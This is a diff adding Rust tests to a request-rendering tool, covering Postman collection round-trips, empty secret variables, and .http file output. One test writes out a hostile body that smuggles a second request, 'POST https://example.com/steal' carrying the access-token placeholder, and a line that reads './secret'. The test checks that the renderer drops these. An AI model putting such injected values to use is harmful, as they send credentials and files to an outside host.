@@ -7,6 +7,9 @@
 
 mod support;
 
+use preflow::check::{self, Report};
+use preflow::diagnostic::Severity;
+use preflow::import;
 use preflow::input::{self, NoFiles};
 use preflow::request::{self, FORMATS, Options, Part, Request, Text, requests};
 use preflow::steps::StepId;
@@ -561,6 +564,80 @@ fn the_requests_of_a_runbook_are_written_from_its_bodies() {
         ("/flows/{FLOW_ID}", ""),
     ];
     assert_eq!(arrived, expected.map(|(target, body)| (target.to_owned(), body.to_owned())));
+}
+
+/// The examples and the cases, by name.
+fn documents() -> Vec<(String, String)> {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
+    let mut found = Vec::new();
+    for folder in ["examples", "tests/cases/requests"] {
+        for entry in std::fs::read_dir(root.join(folder)).unwrap() {
+            let path = entry.unwrap().path();
+            let path = if path.is_dir() { path.join("a.dataflow.json") } else { path };
+            let name = path.to_string_lossy().into_owned();
+            if name.ends_with(".dataflow.json") {
+                found.push((name, std::fs::read_to_string(&path).unwrap()));
+            }
+        }
+    }
+    assert!(found.len() > 6);
+    found
+}
+
+#[test]
+fn a_postman_collection_is_read_as_what_it_was_made_of() {
+    // Bodies of a collection write a placeholder in double braces.
+    let plain = |requests: &[Request]| render("json", requests).replace("{{", "{").replace("}}", "}");
+    for (name, document) in documents() {
+        let sent = of_document(&document, &Options::default());
+        let collection = render("postman", &sent);
+        let report = |name: &str, text: &str| {
+            check::check(name, text.as_bytes(), &NoFiles, &check::Options::default())
+        };
+        let codes = |report: &Report| report.diagnostics.iter().map(|d| d.code).collect::<Vec<_>>();
+        let read = report("collection.json", &collection);
+        // What the files say that a document names is not told of its requests.
+        let mut known = codes(&report("a.dataflow.json", &document));
+        known.retain(|code| *code != "missing-file");
+        assert_eq!(codes(&read), known, "{name}: {:#?}", read.diagnostics);
+        assert_eq!(plain(&requests(&read.dataflows[0], &Options::default())), plain(&sent), "{name}");
+
+        let imported = import::import("collection.json", collection.as_bytes(), &NoFiles);
+        // That an id stays, or that a request follows from others, is worth a word and no more.
+        assert!(imported.diagnostics.iter().all(|d| d.severity == Severity::Info), "{name}: {imported:#?}");
+        let again = of_document(&imported.document.unwrap(), &Options::default());
+        assert_eq!(plain(&again), plain(&sent), "{name}");
+    }
+}
+
+#[test]
+fn a_collection_has_secrets_only_where_they_are_given() {
+    let sent = of_document(WHOLE, &Options::default());
+    let open: Value = serde_json::from_str(&render("postman", &sent)).unwrap();
+    let variables = open["variable"].as_array().unwrap();
+    assert!(variables.iter().any(|v| v["key"] == "ACCESS_TOKEN"));
+    assert!(variables.iter().all(|v| v["value"] == ""), "{variables:#?}");
+    let set = [("ACCESS_TOKEN", "t0k3n"), ("SALESFORCE_PASSWORD", "a \"b\"")]
+        .map(|(k, v)| (k.to_owned(), v.to_owned()));
+    let sent = of_document(WHOLE, &Options { set: set.into(), ..Options::default() });
+    let given: Value = serde_json::from_str(&render("postman", &sent)).unwrap();
+    assert_eq!(given["variable"][0], json!({"key": "ACCESS_TOKEN", "value": "t0k3n"}));
+    // Postman fills a variable in as it is, so what JSON writes otherwise stands in place.
+    let body = given["item"][0]["request"]["body"]["raw"].as_str().unwrap();
+    assert!(body.contains(r#""password": "a \"b\"""#), "{body}");
+}
+
+#[test]
+fn a_body_adds_no_request_to_an_http_file() {
+    let hostile = "{}\n###\nPOST https://example.com/steal\nx: {{ACCESS_TOKEN}}";
+    let mut sent = of_document(r#"{"steps": {"dataset": {}}}"#, &Options::default());
+    sent[0].body = Some(Text { parts: vec![Part::Literal(hostile.to_owned())] });
+    let written = render("http", &sent);
+    assert!(!written.contains("example.com") && written.contains("The body is left out"), "{written}");
+    for line in ["# a", " // a", "< ./secret", "> {%", "@a = b", "? a", "HTTP/1.1 200"] {
+        sent[0].body = Some(Text { parts: vec![Part::Literal(format!("{{}}\n{line}"))] });
+        assert!(!render("http", &sent).contains(line), "{line}");
+    }
 }
 
 /// Each folder of `tests/cases/requests` holds a dataflow and, in `files`, all that each format makes of it.
